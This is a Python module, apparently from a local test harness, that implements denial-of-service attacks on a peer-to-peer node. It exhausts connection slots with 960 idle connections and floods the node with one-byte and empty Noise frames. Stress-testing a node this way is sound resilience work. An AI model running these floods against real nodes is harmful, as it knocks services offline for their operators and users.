"""Attacks that need no RPC: connections that take all places, and small Noise frames."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator

from raw_peer import ping
from scene import Scene

IDLE = 960
"""Number of connections that a node with the default limits accepts from this number of addresses."""
DIALLING = 64
"""Number of simultaneous dials. With more, handshakes take too long and are ended by the target."""
TALKERS = 8
FRAMES_AT_ONCE = 4096


async def idle_connections(scene: Scene) -> None:
    """Open 960 connections from as many addresses, silent after the handshake; open them again when they end."""

    dialling = asyncio.Semaphore(DIALLING)

    async def idle(source: str) -> None:
        async with dialling:
            peer = await scene.connect(source)
        await scene.hold_connections(peer)

    sources = [f"127.{scene.network}.{100 + place // 200}.{1 + place % 200}" for place in range(IDLE)]
    await asyncio.gather(*(scene.repeat(lambda source=source: idle(source)) for source in sources))


async def one_byte_frames(scene: Scene) -> None:
    """Send yamux pings on eight connections as fast as the target reads, each byte in its own Noise frame."""
    data = b"".join(map(ping, range(FRAMES_AT_ONCE // 12)))
    await _flood(scene, [data[place : place + 1] for place in range(len(data))])


async def empty_frames(scene: Scene) -> None:
    """Send empty Noise frames on eight connections as fast as the target reads."""
    await _flood(scene, [b""] * FRAMES_AT_ONCE)


async def _flood(scene: Scene, frames: list[bytes]) -> None:
    async def flood(source: str) -> None:
        peer = await scene.connect(source)
        while not scene.is_over:
            peer.send_sealed(frames)
            scene.counts["frames"] += len(frames)
            await peer.drain()
            await asyncio.sleep(0)

    await asyncio.gather(*(scene.repeat(lambda source=source: flood(source)) for source in _sources(scene)))


def _sources(scene: Scene) -> Iterator[str]:
    return (scene.source(1 + place) for place in range(TALKERS))
